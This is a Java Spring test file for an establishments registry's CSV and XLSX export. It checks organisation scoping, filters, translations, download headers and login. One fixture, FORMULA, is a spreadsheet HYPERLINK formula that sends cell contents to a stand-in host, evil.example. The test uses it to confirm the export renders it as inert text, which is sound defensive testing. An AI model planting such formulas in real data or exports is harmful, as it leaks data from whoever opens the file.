package org.socle.establishment.registry;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Clock;
import java.time.LocalDate;
import java.util.List;

import org.dhatim.fastexcel.reader.Cell;
import org.dhatim.fastexcel.reader.CellType;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.socle.QueryCount;
import org.socle.establishment.Category;
import org.socle.establishment.EstablishmentFixtures;
import org.socle.establishment.EstablishmentStatus;
import org.socle.SocleTest;
import org.socle.identity.IdentityFixtures;
import org.socle.identity.SocleUser;
import org.socle.shared.export.ExportFiles;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.HttpHeaders;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.MvcResult;

import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.user;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.content;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.header;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.redirectedUrl;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

/**
 * The worked example of the shared export: the establishments list as CSV and XLSX, with
 * the list's scope (a manager's organisation), filters and sort, through Spring Security.
 */
@SocleTest
class EstablishmentExportTests {

	/** A name typed into Socle to leak data from whoever opens the export. */
	static final String FORMULA = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"دار\")";

	@Autowired
	MockMvc mvc;

	@Autowired
	Clock clock;

	@Autowired
	IdentityFixtures fixtures;

	@Autowired
	EstablishmentFixtures establishments;

	long orgA;

	long orgB;

	@BeforeEach
	void establishments() {
		this.orgA = this.fixtures.organisation("Test Org A");
		this.orgB = this.fixtures.organisation("Test Org B");
		LocalDate today = LocalDate.now();
		this.establishments.establishment("QZX Alpha enfants Tanger", this.orgA, (f) -> {
			f.setCategory(Category.CHILDREN);
			f.setRegionCode("MA-01");
			f.setAuthorisedCapacity(60);
			f.setAuthorisationStatus(AuthorisationStatus.VALID);
			f.setAuthorisationNumber("QZX-1");
			f.setAuthorisationExpiry(LocalDate.of(2031, 6, 30));
		});
		this.establishments.establishment("QZX Beta personnes âgées Marrakech", this.orgA, (f) -> {
			f.setCategory(Category.ELDERLY);
			f.setRegionCode("MA-07");
			f.setNameAr("دار بيتا للمسنين");
			f.setAuthorisationStatus(AuthorisationStatus.VALID);
			f.setAuthorisationNumber("QZX-2");
			f.setAuthorisationExpiry(today.minusDays(3));
		});
		this.establishments.establishment("QZX Gamma étudiants Fès", this.orgB, (f) -> {
			f.setCategory(Category.STUDENTS);
			f.setRegionCode("MA-03");
			f.setAuthorisationStatus(AuthorisationStatus.PENDING);
		});
		this.establishments.establishment("QZX Delta femmes Oujda", this.orgB, (f) -> {
			f.setNameAr(FORMULA);
			f.setCategory(Category.WOMEN);
			f.setRegionCode("MA-02");
			f.setAuthorisationStatus(AuthorisationStatus.PENDING);
		});
	}

	@Test
	void aManagersExportHoldsOnlyTheirOrganisationsEstablishments() throws Exception {
		assertThat(names(csv(this.fixtures.managerA(), "q=QZX"))).containsExactly("QZX Alpha enfants Tanger",
				"QZX Beta personnes âgées Marrakech");
		assertThat(names(csv(this.fixtures.managerB(), "q=QZX"))).containsExactly("QZX Delta femmes Oujda",
				"QZX Gamma étudiants Fès");
		assertThat(names(csv(this.fixtures.managerA(), "q=QZX&organisation=" + this.orgB)))
			.as("the organisation filter cannot widen a manager's export")
			.isEmpty();
	}

	@Test
	void anAuditorsExportHoldsEveryOrganisationWithTheListsFiltersAndSort() throws Exception {
		SocleUser auditor = this.fixtures.auditor();
		assertThat(names(csv(auditor, "q=QZX"))).containsExactly("QZX Alpha enfants Tanger",
				"QZX Beta personnes âgées Marrakech", "QZX Delta femmes Oujda", "QZX Gamma étudiants Fès");
		assertThat(names(csv(auditor, "q=QZX&region=MA-07"))).containsExactly("QZX Beta personnes âgées Marrakech");
		assertThat(names(csv(auditor, "q=QZX&category=STUDENTS"))).containsExactly("QZX Gamma étudiants Fès");
		assertThat(names(csv(auditor, "q=QZX&organisation=" + this.orgA))).containsExactly("QZX Alpha enfants Tanger",
				"QZX Beta personnes âgées Marrakech");
		assertThat(names(csv(auditor, "q=QZX&expired=true"))).containsExactly("QZX Beta personnes âgées Marrakech");
		assertThat(names(csv(auditor, "q=QZX&unauthorised=true"))).as("expired by date, or pending")
			.containsExactly("QZX Beta personnes âgées Marrakech", "QZX Delta femmes Oujda", "QZX Gamma étudiants Fès");
		assertThat(names(csv(auditor, "q=QZX&sort=nameFr,desc&page=3&size=1"))).as("every page, in the list's order")
			.containsExactly("QZX Gamma étudiants Fès", "QZX Delta femmes Oujda", "QZX Beta personnes âgées Marrakech",
					"QZX Alpha enfants Tanger");
		assertThat(names(csv(auditor, "q=QZX&category=SPACESHIPS&sort=password,asc"))).as("bad filters are ignored")
			.hasSize(4);
	}

	@Test
	void eachLineHoldsTheListsColumnsTranslated() throws Exception {
		List<String> beta = csv(this.fixtures.auditor(), "q=QZX Beta").get(1);
		assertThat(beta.subList(1, beta.size())).containsExactly("QZX Beta personnes âgées Marrakech",
				"دار بيتا للمسنين", "Personnes âgées", "Marrakech-Safi", "Test Org A", "40", "Autorisé",
				LocalDate.now().minusDays(3).toString(), "Oui", "En activité");
		assertThat(csv(this.fixtures.auditor(), "q=QZX Beta&lang=ar").get(0)).startsWith("المعرف", "الاسم بالفرنسية");
		assertThat(csv(this.fixtures.auditor(), "q=QZX Beta&lang=en").get(1)).contains("Older people", "Yes");
	}

	@Test
	void aFormulaTypedIntoANameArrivesAsInertText() throws Exception {
		assertThat(csv(this.fixtures.auditor(), "q=QZX Delta").get(1).get(2)).isEqualTo("'" + FORMULA);
		List<List<Cell>> rows = ExportFiles
			.xlsx(download(this.fixtures.auditor(), "xlsx", "q=QZX Delta").getResponse().getContentAsByteArray());
		assertThat(rows.get(1).get(2).asString()).isEqualTo("'" + FORMULA);
	}

	@Test
	void theXlsxHasNumbersAndDates() throws Exception {
		List<List<Cell>> rows = ExportFiles
			.xlsx(download(this.fixtures.auditor(), "xlsx", "q=QZX Alpha").getResponse().getContentAsByteArray());
		assertThat(rows).hasSize(2);
		Cell capacity = rows.get(1).get(6);
		assertThat(capacity.getType()).isEqualTo(CellType.NUMBER);
		assertThat(capacity.asNumber()).isEqualByComparingTo("60");
		assertThat(rows.get(1).get(8).asDate().toLocalDate()).isEqualTo(LocalDate.of(2031, 6, 30));
	}

	@Test
	void theDownloadIsAnAttachmentNamedWithTodaysDateNeverCachedNorSniffed() throws Exception {
		// the application's day (Africa/Casablanca), not the machine's: they differ
		// around midnight
		String today = LocalDate.now(this.clock).toString();
		this.mvc.perform(get("/establishments/export.csv").with(user(this.fixtures.auditor())))
			.andExpect(status().isOk())
			.andExpect(header().string(HttpHeaders.CONTENT_TYPE, "text/csv;charset=UTF-8"))
			.andExpect(header().string(HttpHeaders.CONTENT_DISPOSITION,
					"attachment; filename=\"Etablissements-" + today + ".csv\"; filename*=UTF-8''%C3%89tablissements-"
							+ today + ".csv"))
			.andExpect(header().string(HttpHeaders.CACHE_CONTROL, containsString("no-store")))
			.andExpect(header().string("X-Content-Type-Options", "nosniff"));
		this.mvc.perform(get("/establishments/export.xlsx?lang=ar").with(user(this.fixtures.auditor())))
			.andExpect(status().isOk())
			.andExpect(header().string(HttpHeaders.CONTENT_TYPE,
					"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"))
			.andExpect(header().string(HttpHeaders.CONTENT_DISPOSITION, containsString(
					"filename*=UTF-8''" + URLEncoder.encode("المؤسسات-" + today + ".xlsx", StandardCharsets.UTF_8))));
	}

	@Test
	void otherFormatsAreNotFoundAndVisitorsMustLogIn() throws Exception {
		this.mvc.perform(get("/establishments/export.pdf").with(user(this.fixtures.auditor())))
			.andExpect(status().isNotFound());
		this.mvc.perform(get("/establishments/export.csv")).andExpect(redirectedUrl("/login"));
	}

	@Test
	void theExportRunsTheSameFewStatementsWhateverItsSize() throws Exception {
		assertThat(QueryCount.of(this.mvc, get("/establishments/export.csv?q=QZX").with(user(this.fixtures.auditor()))))
			.as("active organisations' names, then the rows")
			.isLessThanOrEqualTo(2);
	}

	@Test
	void theListLinksToItsExportsWithTheCurrentFiltersButNoPage() throws Exception {
		this.mvc
			.perform(get("/establishments?region=MA-01&page=1&sort=nameFr,desc").with(user(this.fixtures.auditor())))
			.andExpect(content()
				.string(containsString("href=\"/establishments/export.csv?region=MA-01&amp;sort=nameFr,desc\"")))
			.andExpect(content()
				.string(containsString("href=\"/establishments/export.xlsx?region=MA-01&amp;sort=nameFr,desc\"")));
	}

	private List<List<String>> csv(SocleUser user, String query) throws Exception {
		return ExportFiles.csv(download(user, "csv", query).getResponse().getContentAsByteArray());
	}

	private MvcResult download(SocleUser user, String extension, String query) throws Exception {
		return this.mvc.perform(get("/establishments/export." + extension + "?" + query).with(user(user)))
			.andExpect(status().isOk())
			.andReturn();
	}

	/** The French names, header left out. */
	private static List<String> names(List<List<String>> rows) {
		return rows.stream().skip(1).map((row) -> row.get(1)).toList();
	}

}
